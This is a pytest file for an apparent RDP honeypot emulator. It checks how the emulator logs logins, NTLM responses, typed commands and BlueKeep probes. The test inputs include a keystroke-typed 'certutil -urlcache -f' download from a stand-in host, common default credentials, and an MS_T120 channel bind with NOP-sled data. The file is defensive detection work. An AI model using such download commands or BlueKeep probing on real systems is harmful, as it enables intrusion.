"""Remote Desktop up to the login: cookies, client names, passwords, NTLM's answers, and BlueKeep's channel."""

from __future__ import annotations

import re
import struct

import pytest

from eudaemon.events.catalogue import (
    CommandEntered,
    ExploitRecognised,
    LoginTried,
    NtlmResponseGiven,
    RdpClientIdentified,
)
from eudaemon.protocols._base import Claim
from eudaemon.protocols.rdp import Rdp
from eudaemon.protocols.rdp.pdus import (
    CHANNELS_MAX,
    FIRST_CHANNEL,
    PACKET_BYTES_MAX,
    client_of,
    connect_response,
    data,
    ts_read,
    ts_request,
)
from eudaemon.protocols.rdp.room import KEPT_BYTES_MAX, PACKETS_MAX
from eudaemon.testing.script import Table, visit
from eudaemon.wire import Purse
from eudaemon.world.host import Host
from eudaemon.world.seed import Seed
from protocols.rdp_client import ATTACH, ERECT, connect, info, join, request, send
from protocols.smb_client import hello, proof

HOSTS = [Host.from_seed(Seed(b"%d" % number)) for number in range(20)]


def wants_credentials(host: Host) -> bool:
    return host.seed.child("rdp").number("network level authentication", 2) == 0


PLAIN = next(host for host in HOSTS if not wants_credentials(host))
STRICT = next(host for host in HOSTS if wants_credentials(host))


def talk(host: Host = PLAIN, *, can_tls: bool = True, tls: bool = False) -> Table:
    given = visit(host=host, port=3389, purse=Purse(32 << 20), can_tls=can_tls and not tls, tls=tls)
    return Table(Rdp(given)).open()


def channels(table: Table, *names: str) -> None:
    """Go on to where data may be sent."""
    table.say(connect(*names) + ERECT + ATTACH)
    for number in range(len(names) + 2):
        table.say(join(FIRST_CHANNEL + number))


@pytest.mark.parametrize("split", [0, 1])
@pytest.mark.parametrize(("protocols", "can_tls"), [(3, True), (1, True), (0, True), (None, True), (3, False)])
def test_without_credentials_first_the_password_comes(protocols: int | None, can_tls: bool, split: int) -> None:
    table = talk(can_tls=can_tls)
    said = table.say(request(b"mstshash=admin", protocols), split)
    selected = int(bool(protocols) and can_tls)
    assert said == (b"\3\0\0\x0b\6\xd0\0\0\x12\x34\0" if protocols is None else
                    b"\3\0\0\x13\x0e\xd0\0\0\x12\x34\0\2\x1f\x08\0%c\0\0\0" % selected)  # fmt: skip
    assert table.secured is bool(selected)
    said = table.say(connect("rdpdr", "cliprdr", "rdpsnd"), split)
    assert said[7:9] == b"\x7f\x66"
    assert b"McDn" in said
    assert RdpClientIdentified(
        "KALI", "mstshash=admin", 2600, 0x407, "1024x768", ("rdpdr", "cliprdr", "rdpsnd")
    ) in table.facts  # fmt: skip
    assert table.say(ERECT, split) == b""
    assert table.say(ATTACH, split)[7:9] == b"\x2e\0"
    assert table.say(join(1004), split).endswith(b"\3\xec\3\xec")
    said = table.say(send(FIRST_CHANNEL, info("CORP", "admin", "P@ss", "cmd.exe")), split)
    assert b"\xff\3\x10\0\7\0\0\0" in said
    assert said.endswith(b"\x21\x80")
    assert table.over
    assert LoginTried("CORP\\admin", "P@ss", accepted=False) in table.facts
    assert CommandEntered("cmd.exe") in table.facts


def at_the_desk() -> Table:
    """Somebody who is let in."""
    table = talk()
    table.say(request())
    channels(table)
    table.say(send(FIRST_CHANNEL, info("", "Administrator", "123456")))
    assert LoginTried("Administrator", "123456", accepted=True) in table.facts
    assert not table.over
    return table


def fast(*events: bytes) -> bytes:
    """A fast-path PDU, 2.2.8.1.2."""
    body = b"".join(events)
    return bytes((len(events) << 2, 2 + len(body))) + body


def tap(code: int, *, extended: bool = False) -> bytes:
    return fast(bytes((2 * extended, code)), bytes((1 + 2 * extended, code)))


WINDOWS_R = fast(b"\x02\x5b") + tap(0x13) + fast(b"\x03\x5b")
ENTER = tap(0x1C)


@pytest.mark.parametrize("split", [0, 1])
def test_who_is_let_in_types(split: int) -> None:
    table = at_the_desk()
    before = len(table.facts)
    cmd = tap(0x2E) + tap(0x32) + tap(0x20) + tap(0x1E) + tap(0x0E)
    table.say(WINDOWS_R + cmd + ENTER, split)
    characters = (bytes((0x80,)) + ord(c).to_bytes(2, "little") for c in "certutil -urlcache -f http://192.0.2.9/b b")
    table.say(b"".join(fast(one) for one in characters) + ENTER, split)
    shifted = fast(b"\0\x2a") + tap(0x02) + tap(0x1E) + fast(b"\1\x2a") + tap(0x1E)
    table.say(fast(b"\x20" + bytes(6), b"\x60") + shifted + tap(0x48, extended=True) + ENTER, split)
    table.end()
    assert [fact.line for fact in table.facts[before:] if isinstance(fact, CommandEntered)] == [
        "cmd", "certutil -urlcache -f http://192.0.2.9/b b", "!Aa<Up>",
    ]  # fmt: skip
    assert [wish.download.url for wish in table.wishes] == ["http://192.0.2.9/b"]


def test_an_old_client_types() -> None:
    table = at_the_desk()
    keys = ((4, 0, 0x17), (4, 0x8000, 0x17), (5, 0, ord("d")), (5, 0, 0x20AC), (0x8001, 0, 9), (4, 0x100, 0x1C))
    events = b"".join(struct.pack("<IHHHH", 0, kind, flags, code, 0) for kind, flags, code in keys)
    share = struct.pack("<IBBHBBH", 0x103EA, 0, 1, 0, 28, 0, 0) + struct.pack("<HH", len(keys), 0) + events
    table.say(send(FIRST_CHANNEL, struct.pack("<HHH", 0, 0x17, 44) + share))
    assert CommandEntered("id€") in table.facts


def test_an_old_clients_info() -> None:
    table = talk()
    table.say(request())
    channels(table)
    table.say(send(FIRST_CHANNEL, info("", "root", "toor", wide=False)))
    assert LoginTried("root", "toor", accepted=False) in table.facts


@pytest.mark.parametrize("split", [0, 1])
@pytest.mark.parametrize("direct", [False, True])
@pytest.mark.parametrize(("password", "found"), [("P@ssw0rd", "P@ssw0rd"), ("N0t.l1st3d", None)])
def test_with_credentials_first_the_answer_comes(password: str, found: str | None, direct: bool, split: int) -> None:
    table = talk(STRICT, tls=direct)
    if not direct:
        assert table.say(request(b"mstshash=x"), split)[-4:] == b"\2\0\0\0"
    version, token = ts_read(table.say(ts_request(6, token=hello()), split))
    assert version == 6
    assert token.startswith(b"NTLMSSP\0\2")
    challenge = token[24:32]
    said = table.say(ts_request(6, token=proof(challenge, "administrator", password)), split)
    assert said.endswith(b"\xa4\6\2\4\xc0\0\1\x5b" if found else b"\xa4\6\2\4\xc0\0\0\x6d")
    assert table.over
    (given,) = (fact for fact in table.facts if isinstance(fact, NtlmResponseGiven))
    assert (given.user, given.domain) == ("administrator", "LAB")
    assert re.match(r"administrator::LAB:[0-9a-f]{16}:[0-9a-f]{32}:0101", given.response)
    assert LoginTried("administrator", found, accepted=False) in table.facts


def test_who_offers_no_credentials_is_told_to() -> None:
    table = talk(STRICT)
    assert table.say(request(protocols=1))[-8:] == b"\3\0\x08\0\5\0\0\0"
    assert table.over


def test_bluekeep() -> None:
    table = talk()
    table.say(request(protocols=0))
    channels(table, "rdpdr", "MS_T120")
    assert ExploitRecognised("bluekeep", "CVE-2019-0708", "rdpdr MS_T120") in table.facts
    said = table.say(send(FIRST_CHANNEL, info("", "", "")))
    assert b"\x11\0\xea\3\xea\3\1\0" in said, "it is demanded to be active"
    for kind, body, answer in ((0x1F, b"\1\0\0\0", 0x1F), (0x14, b"\4\0\0\0\0\0\0\0", 0x14),
                               (0x14, b"\1\0\0\0\0\0\0\0", 0x14), (0x27, bytes(8), 0x28)):  # fmt: skip
        share = b"\xea\3\1\0\0\1\0\0" + bytes((kind, 0, 0, 0)) + body
        said = table.say(send(FIRST_CHANNEL, b"\0\0\x17\0\x2c\0" + share))
        assert said[28] == answer, said
    assert table.say(b"\0\x04ab\0\x80\x05ab") == b"", "keys and the mouse"
    assert table.say(send(1004, b"not that channel")) == b""
    assert table.say(send(1005, b"\x90" * 1000)) == b"\3\0\0\x09\2\xf0\x80\x21\x80"
    assert table.say(send(1005, b"\x90" * 1000) * 2) == b"", "once"
    assert not table.over
    table.end()
    assert [(keep.origin, keep.data) for keep in table.kept] == [("payload", b"not that channel" + b"\x90" * 3000)]


@pytest.mark.parametrize(
    "data_",
    [
        b"GET / HTTP/1.1\r\n",
        b"\3\0\0\4",
        b"\3\0\0\x07\2\xf0\x80",
        request(protocols=0) * 2,
        b"\3\0\0\x0b\6\xd0\0\0\0\0\0",
    ],
)
def test_who_is_no_client(data_: bytes) -> None:
    table = talk()
    table.say(data_)
    assert table.fault


def test_what_is_read_of_broken_packets_is_empty() -> None:
    whole = connect("a", "b")
    for end in range(len(whole)):
        client_of(whole[:end])
    assert client_of(whole).channels == ("a", "b")
    assert len(connect_response(0, 3)) == len(connect_response(0, 4))


def test_limits() -> None:
    assert client_of(connect(*(["x"] * CHANNELS_MAX))).channels == ("x",) * CHANNELS_MAX
    assert client_of(connect(*(["x"] * (CHANNELS_MAX + 1)))).channels == ("x",) * CHANNELS_MAX
    for past in (0, 1):
        table = talk()
        table.say(request(protocols=0) + connect() + ERECT * (PACKETS_MAX - 2 + past))
        assert bool(table.fault) == bool(past)
        table = talk(tls=True)
        table.say(b"\x30\x82\xff\xff" if not past else b"\x30\x83" + PACKET_BYTES_MAX.to_bytes(3, "big"))
        assert bool(table.fault) == bool(past)
    table = talk()
    table.say(request(protocols=0))
    channels(table, "MS_T120")
    for _ in range(KEPT_BYTES_MAX // 30_000 + 1):
        table.say(send(1004, bytes(30_000)))
    table.end()
    assert [len(keep.data) for keep in table.kept] == [KEPT_BYTES_MAX]


def test_whose_conversation_it_is() -> None:
    for first, claim in ((b"\3\0", Claim.UNSURE), (request(), Claim.YES), (data(b"x"), Claim.NO), (b"GET /", Claim.NO)):
        assert Rdp.claim(first) is claim, first
